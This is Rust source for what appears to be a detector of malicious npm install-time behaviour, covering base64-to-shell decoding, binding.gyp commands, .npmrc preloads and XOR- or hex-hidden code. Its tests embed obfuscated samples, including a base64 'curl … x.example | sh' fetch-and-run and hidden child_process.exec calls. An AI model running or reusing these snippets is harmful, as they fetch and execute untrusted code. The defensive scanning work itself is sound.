/// through `base64 -d` / `--decode` (`echo KHRhciBj… | base64 -d | sh`), decoded to text so the
/// script rules read what runs. At most four, each of 16 to 64 KiB characters.
pub fn shell_decoded(cmd: &str) -> Vec<String> {
    let decodes = crate::regex!(r"\bbase64\s+(-d|--decode|-D)\b");
    if !decodes.is_match(cmd) {
        return Vec::new();
    }
    let literal = crate::regex!(r"[A-Za-z0-9+/]{16,65536}={0,2}");
    literal
        .find_iter(cmd)
        .filter_map(|m| crate::decode::base64_bytes(m.as_str()))
        .filter_map(|b| crate::decode::loose_text(&b))
        .filter(|t| {
            t.chars()
                .all(|c| !c.is_control() || c == '\n' || c == '\t' || c == '\r')
        })
        .take(4)
        .collect()
}

/// The `<!(cmd)` and `<!@(cmd)` command expansions of a binding.gyp, with their lines.
pub fn gyp_commands(text: &str) -> Vec<(String, u32)> {
    let mut out = Vec::new();
    let mut rest = 0;
    while let Some(i) = text[rest..].find("<!") {
        let start = rest + i;
        let mut j = start + 2;
        if text[j..].starts_with('@') {
            j += 1;
        }
        rest = j;
        if !text[j..].starts_with('(') {
            continue;
        }
        // Balanced parentheses, so `<!(node -p "require('x').y")` keeps its inner call.
        let mut depth = 0usize;
        let mut end = None;
        for (k, c) in text[j..].char_indices() {
            match c {
                '(' => depth += 1,
                ')' => {
                    depth -= 1;
                    if depth == 0 {
                        end = Some(j + k);
                        break;
                    }
                }
                '\n' => break,
                _ => {}
            }
        }
        let Some(end) = end else { continue };
        // Commands sit inside JSON-ish strings: undo the \" escaping.
        let cmd = text[j + 1..end].replace("\\\"", "\"");
        let line = text[..start].matches('\n').count() as u32 + 1;
        out.push((cmd, line));
        rest = end;
    }
    out
}

/// The commands of a binding.gyp's `actions` (and `rules`) entries, `"action": ["python3",
/// "tools/gen.py", "<@(_outputs)"]`, joined into one command line each, with their lines: gyp
/// runs them while it builds the addon, i.e. during the install build.
pub fn gyp_actions(text: &str) -> Vec<(String, u32)> {
    let key = crate::regex!(r#"['"]action['"]\s*:\s*\["#);
    let item = crate::regex!(r#""((?:[^"\\\n]|\\.)*)"|'((?:[^'\\\n]|\\.)*)'"#);
    let mut out = Vec::new();
    for m in key.find_iter(text) {
        let Some(close) = text[m.end()..].find(']') else {
            continue;
        };
        let list = &text[m.end()..m.end() + close];
        let words: Vec<String> = item
            .captures_iter(list)
            .filter_map(|c| c.get(1).or_else(|| c.get(2)))
            .map(|w| w.as_str().replace("\\\"", "\""))
            .collect();
        if words.is_empty() {
            continue;
        }
        let line = text[..m.start()].matches('\n').count() as u32 + 1;
        out.push((words.join(" "), line));
    }
    out
}

/// Files that package-manager settings in the tarball make node or yarn load before anything
/// else: `node-options` with `--require`/`-r`/`--import` in `.npmrc`, `yarnPath` in
/// `.yarnrc.yml` and `yarn-path` in `.yarnrc`; pnpm's `.pnpmfile.cjs` hooks.
pub fn config_preloads(files: &[FileCtx]) -> Vec<String> {
    let mut out = Vec::new();
    for f in files {
        match f.path.as_str() {
            ".npmrc" => {
                for line in f.text.lines() {
                    let Some((k, v)) = line.split_once('=') else {
                        continue;
                    };
                    if k.trim() != "node-options" {
                        continue;
                    }
                    let v = v.trim().trim_matches(['"', '\'']);
                    let mut words = v.split_whitespace();
                    while let Some(w) = words.next() {
                        if let Some(t) =
                            w.strip_prefix("--require=").or(w.strip_prefix("--import="))
                        {
                            out.push(clean(t));
                        } else if matches!(w, "-r" | "--require" | "--import" | "--loader")
                            && let Some(t) = words.next()
                        {
                            out.push(clean(t));
                        }
                    }
                }
            }
            ".yarnrc.yml" | ".yarnrc" => {
                for line in f.text.lines() {
                    let l = line.trim();
                    let v = l
                        .strip_prefix("yarnPath:")
                        .or_else(|| l.strip_prefix("yarn-path"));
                    if let Some(v) = v {
                        out.push(clean(v.trim().trim_matches(['"', '\''])));
                    }
                }
            }
            // pnpm loads the project's `.pnpmfile.cjs` hooks as code on every install.
            ".pnpmfile.cjs" | ".pnpmfile.mjs" => out.push(f.path.clone()),
            _ => {}
        }
    }
    out
}

/// The code of `node -e "…"` / `node --eval '…'` in a lifecycle command.
pub fn inline_node_code(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for flag in [" -e ", " --eval ", " -p ", " --print "] {
        let mut rest = cmd;
        while let Some(i) = rest.find(flag) {
            let after = rest[i + flag.len()..].trim_start();
            let q = after.chars().next().unwrap_or(' ');
            if q == '"' || q == '\'' {
                let body = &after[1..];
                let end = body.find(q).unwrap_or(body.len());
                out.push(body[..end].to_string());
                rest = &body[end.min(body.len())..];
            } else {
                let end = after.find(' ').unwrap_or(after.len());
                out.push(after[..end].to_string());
                rest = &after[end..];
            }
        }
    }
    out
}

#[cfg(test)]
mod config_tests {
    use super::*;

    #[test]
    fn nesting_depth_counts_brackets_outside_strings_only() {
        assert_eq!(nesting_depth(b"f(a[{b}], (c))"), 3);
        assert_eq!(nesting_depth(b"x = '(((' + \"[[[\" + `{{{`; g(h())"), 2);
        // An escaped quote does not end the string; a line feed ends a '…' string but not a `…`.
        assert_eq!(nesting_depth(b"s = 'a\\'((('; t(u)"), 1);
        assert_eq!(nesting_depth(b"s = 'unterminated\n((( x"), 3);
        assert_eq!(nesting_depth(b"s = `multi\n((( line`; v"), 0);
        assert_eq!(nesting_depth(b""), 0);
    }

    #[test]
    fn gyp_command_expansions_are_found_with_their_lines() {
        let gyp = "{\n \"include_dirs\": [\"<!(node -p \\\"require('nan')\\\")\"],\n \"libraries\": [\"<!@(pkg-config --libs x)\"]\n}";
        let cmds = gyp_commands(gyp);
        assert_eq!(
            cmds,
            vec![
                ("node -p \"require('nan')\"".to_string(), 2),
                ("pkg-config --libs x".to_string(), 3)
            ]
        );
        assert!(gyp_commands("{\"sources\": [\"a.cc\"], \"x\": \"<!\"}").is_empty());
    }

    #[test]
    fn base64_piped_to_a_decoder_is_read_as_the_command_it_hides() {
        // `echo … | base64 -d | sh` runs what the literal decodes to.
        let cmd = "sh -c \"echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL3xzaA== | base64 -d | sh\"";
        assert_eq!(
            shell_decoded(cmd),
            vec!["curl -s http://x.example/|sh".to_string()]
        );
        // Without a decoding step a base64-looking word is left alone.
        assert!(
            shell_decoded("echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL3xzaA== > token.txt").is_empty()
        );
    }

    #[test]
    fn gyp_build_actions_are_install_commands() {
        let gyp = "{\n 'targets': [{\n  'actions': [{\n   'action_name': 'gen',\n   \"action\": [\"python3\", \"tools/gen.py\", \"<@(_outputs)\"]\n  }]\n }]\n}";
        assert_eq!(
            gyp_actions(gyp),
            vec![("python3 tools/gen.py <@(_outputs)".to_string(), 5)]
        );
        // `actions` lists and action names are not commands.
        assert!(gyp_actions("{'actions': [], 'action_name': 'x', 'sources': ['a.cc']}").is_empty());
    }

    #[test]
    fn npmrc_and_yarnrc_preloads_are_install_roots() {
        let limits = Limits::default();
        let files = vec![
            FileCtx::new(
                ".npmrc".into(),
                b"engine-strict=true\nnode-options=\"--require ./.config/p.js\"\n".to_vec(),
                &limits,
            ),
            FileCtx::new(
                ".yarnrc.yml".into(),
                b"nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n".to_vec(),
                &limits,
            ),
        ];
        assert_eq!(
            config_preloads(&files),
            vec![
                ".config/p.js".to_string(),
                ".yarn/releases/yarn-4.1.0.cjs".to_string()
            ]
        );
        let plain = vec![FileCtx::new(
            ".npmrc".into(),
            b"package-lock=false\nnode-options=--max-old-space-size=4096\n".to_vec(),
            &limits,
        )];
        assert!(config_preloads(&plain).is_empty());
    }
}

#[cfg(test)]
mod hidden_stage_tests {
    use super::*;

    fn xor(data: &[u8], key: &[u8]) -> Vec<u8> {
        data.iter()
            .enumerate()
            .map(|(i, b)| b ^ key[i % key.len()])
            .collect()
    }

    fn files(decryptor: &str, data: Vec<u8>) -> Vec<FileCtx> {
        let limits = Limits::default();
        vec![
            FileCtx::new("index.js".into(), decryptor.as_bytes().to_vec(), &limits),
            FileCtx::new("assets/blob.bin".into(), data, &limits),
        ]
    }

    #[test]
    fn xor_encrypted_code_in_a_data_file_is_decrypted() {
        let code = b"const c = require('child_process'); c.exec('id');";
        let single = files(
            "const raw = require('fs').readFileSync(__dirname + '/assets/' + 'blob.bin'); for (let i = 0; i < raw.length; i++) raw[i] = raw[i] ^ 0x5a;",
            xor(code, b"\x5a"),
        );
        let got = xor_decrypted(&single, &Limits::default());
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].0.path, "assets/blob.bin (decrypted)");
        assert!(
            got[0]
                .0
                .js
                .as_ref()
                .is_some_and(|j| j.has_module("child_process").is_some())
        );
        let repeating = files(
            "const k = 'k3y!'; const d = require('fs').readFileSync('assets/blob.bin'); const o = Buffer.alloc(d.length); for (let i = 0; i < d.length; i++) o[i] = d[i] ^ k.charCodeAt(i % k.length);",
            xor(code, b"k3y!"),
        );
        assert_eq!(xor_decrypted(&repeating, &Limits::default()).len(), 1);
    }

    #[test]
    fn xor_scrambled_data_that_is_not_code_stays_data() {
        let words = b"apple\nbanana\ncherry\ndamson\nelderberry\nfig\ngrape\n".repeat(4);
        let f = files(
            "const k = 'fruit'; const d = require('fs').readFileSync('assets/blob.bin'); for (let i = 0; i < d.length; i++) d[i] = d[i] ^ k.charCodeAt(i % k.length);",
            xor(&words, b"fruit"),
        );
        assert!(xor_decrypted(&f, &Limits::default()).is_empty());
    }

    fn linked(files: &[(&str, &str)]) -> Vec<FileCtx> {
        let limits = Limits::default();
        let mut v: Vec<FileCtx> = files
            .iter()
            .map(|(p, t)| FileCtx::new(p.to_string(), t.as_bytes().to_vec(), &limits))
            .collect();
        link_exports(&mut v, &limits);
        v
    }

    fn derived(f: &FileCtx) -> Vec<String> {
        f.js.as_ref()
            .map(|j| j.derived.iter().map(|(d, _)| d.clone()).collect())
            .unwrap_or_default()
    }

    #[test]
    fn exported_arrays_and_destructured_imports_fold_where_used() {
        let v = linked(&[
            (
                "lib/names.js",
                "exports.parts = ['ssh', 'id_rsa', 'config'];\nexports.tag = 'bot';\n",
            ),
            (
                "lib/base.js",
                "exports.origin = ['https:', '', 'api.chat.example'].join('/');\n",
            ),
            (
                "lib/use.js",
                "const { parts, tag } = require('./names');\nconst { origin } = require('./base');\nconst dir = '.' + parts[0];\nconst u = `${origin}/${tag}/send`;\nmodule.exports = { dir, u };\n",
            ),
        ]);
        let d = derived(&v[2]);
        assert!(d.iter().any(|s| s == ".ssh"), "{d:?}");
        assert!(
            d.iter().any(|s| s == "https://api.chat.example/bot/send"),
            "{d:?}"
        );
    }

    #[test]
    fn short_exports_alone_do_not_relink_and_unrelated_names_stay_unknown() {
        // Only short strings exported: the user is not analysed again.
        let v = linked(&[
            ("lib/names.js", "exports.tag = 'bot';\n"),
            (
                "lib/use.js",
                "const { tag } = require('./names');\nconst u = 'x/' + tag;\nmodule.exports = u;\n",
            ),
        ]);
        assert!(!derived(&v[1]).iter().any(|s| s == "x/bot"));
        // A file that does not name the exported array is left as it was.
        let v = linked(&[
            ("lib/names.js", "exports.parts = ['ssh', 'id_rsa'];\n"),
            (
                "lib/use.js",
                "const n = require('./names');\nconst d = '.' + n.other;\nmodule.exports = d;\n",
            ),
        ]);
        assert!(!derived(&v[1]).iter().any(|s| s == ".ssh"));
    }
}

#[cfg(test)]
mod link_tests {
    use super::*;

    fn linked(index: &str, data: &str) -> Vec<FileCtx> {
        let limits = Limits::default();
        let mut files = vec![
            FileCtx::new("index.js".into(), index.as_bytes().to_vec(), &limits),
            FileCtx::new("lib/names.js".into(), data.as_bytes().to_vec(), &limits),
        ];
        link_exports(&mut files, &limits);
        files
    }

    fn calls(files: &[FileCtx]) -> Vec<String> {
        files[0]
            .js
            .as_ref()
            .map(|j| j.calls.iter().map(|c| c.path.clone()).collect())
            .unwrap_or_default()
    }

    #[test]
    fn names_hidden_in_an_exported_table_of_hex_strings_are_resolved() {
        // `module.exports = [hex('child_process'), hex('exec')]`, indexed and hex-decoded
        // where they are used.
        let files = linked(
            "function d(s){return Buffer.from(s,'hex').toString()}\nvar n = require('./lib/names');\nvar m = require(d(n[0]));\nm[d(n[1])]('id');",
            "module.exports = [\"6368696c645f70726f63657373\", \"65786563\"];\n",
        );
        assert!(
            calls(&files).iter().any(|c| c == "child_process.exec"),
            "{:?}",
            calls(&files)
        );
    }

    #[test]
    fn a_table_the_file_never_indexes_changes_nothing() {
        let files = linked(
            "var n = require('./lib/names');\nmodule.exports = n.map(function (s) { return s.toUpperCase(); });",
            "module.exports = [\"alpha\", \"beta\"];\n",
        );
        assert!(
            !calls(&files).iter().any(|c| c.contains("alpha")),
            "{:?}",
            calls(&files)
        );
    }
}
